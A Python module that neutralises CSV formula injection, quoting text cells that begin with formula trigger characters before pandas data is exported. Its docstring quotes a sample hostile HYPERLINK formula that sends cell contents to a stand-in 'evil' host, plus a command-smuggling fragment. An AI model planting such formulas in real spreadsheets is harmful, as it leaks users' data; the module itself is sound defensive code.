"""CSV cells a spreadsheet will not run: text starting with = + - @ tab or CR gets a quote prefix.

Model names, node names and error texts come from uploads, and a cell such as
`=HYPERLINK("http://evil/?"&A1)` is a formula to Excel and LibreOffice. OWASP's advice is to
prefix such text with a single quote, which spreadsheets show but do not evaluate.

Numbers stay numbers: real numeric values (int, float, numpy numbers), including negative ones,
are written unchanged, because "-1.5" is a number to every spreadsheet and never a formula.
Text is judged as text: a string that only looks like a negative number ("-3") is also left as
is, while "-3+cmd|..." or "-A1" is quoted. Booleans and missing values are untouched.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # imported where a frame is made: a CLI start that writes no frame skips it
    import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """The value as a spreadsheet should see it: formulas in text defused, numbers untouched."""
    if not isinstance(value, str):
        return value
    if value.startswith(TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text cells and column names are neutralised; numeric columns untouched."""
    import pandas as pd

    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column]):
            safe[column] = safe[column].map(neutralise)
    safe.columns = [neutralise(c) for c in safe.columns]
    return safe
